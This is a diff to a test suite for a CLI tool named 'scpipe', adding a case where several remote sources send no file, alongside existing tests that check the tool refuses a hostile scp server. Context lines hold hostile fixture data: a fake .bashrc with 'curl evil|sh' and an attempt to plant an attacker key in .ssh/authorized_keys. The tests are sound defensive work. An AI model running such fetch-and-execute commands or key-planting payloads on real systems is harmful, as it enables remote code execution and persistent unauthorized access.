@@ -130,6 +130,13 @@ describe('cp from a hostile scp -f: refused, exit 1, nothing written', () => {
     await expectNothingWritten();
   });
 
+  it('several sources, each sent nothing: each is said, exit 1', async () => {
+    const script = await fakeScp('silent-each', Buffer.alloc(0));
+    const r = await runCli(['cp', ...sshFlags(sshd, sshd.user), '--scp-path', script, remote(sshd, sshd.user, 'x'), remote(sshd, sshd.user, 'y'), join(work, 'target')]);
+    expect(r).toMatchObject({ status: 1, stderr: 'scpipe: the remote sent no file for "x"\nscpipe: the remote sent no file for "y"\n' });
+    await expectNothingWritten();
+  });
+
   it.each([
     ['C0644 13 .bashrc\ncurl evil|sh\n\0', []],
     ['D0700 0 .ssh\nC0600 10 authorized_keys\nssh-rsa x\n\0E\n', ['-r']],
